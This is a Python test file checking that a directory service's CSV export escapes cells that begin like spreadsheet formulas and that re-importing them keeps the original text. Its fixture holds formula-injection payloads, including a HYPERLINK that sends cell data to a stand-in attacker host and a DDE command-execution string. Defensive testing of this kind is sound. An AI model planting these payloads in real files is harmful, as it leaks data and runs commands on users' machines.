"""A CSV export never hands a spreadsheet a formula, and a re-import gives back the exact text."""

import csv
from pathlib import Path

from services import models as m
from services.hsds.exporter import export_csv
from tests.hsds_tests.directory import run_import, wipe_directory

HOSTILE = {
    "description": '=HYPERLINK("https://evil.example/?d="&A1,"Ayuda")',
    "application_process": "+1+cmd|' /C calc'!A0",
    "fees_description": "-2+3",
    "eligibility_description": "@SUM(1,1)",
    "alert": "\tTab first",
    "accreditations": "'=already quoted",
}
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_exported_cell_starts_like_a_formula(directory, tmp_path):
    m.Service.objects.filter(pk=directory.shelter.pk).update(**HOSTILE)
    export_csv(tmp_path / "out", include_confidential=True)
    cells = [c for f in (tmp_path / "out").glob("*.csv") for c in _cells(f)]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    formulas = [c for c in cells if c.startswith(DANGEROUS_START) and not _is_number(c)]
    assert formulas == []


def test_neutralised_cells_are_reimported_unchanged(directory, tmp_path):
    m.Service.objects.filter(pk=directory.shelter.pk).update(**HOSTILE)
    export_csv(tmp_path / "out", include_confidential=True)
    wipe_directory()
    _run, report = run_import(tmp_path / "out")
    assert report.error_count == 0, report.errors
    shelter = m.Service.objects.get(pk=directory.shelter.pk)
    for field, text in HOSTILE.items():
        assert getattr(shelter, field) == text, field
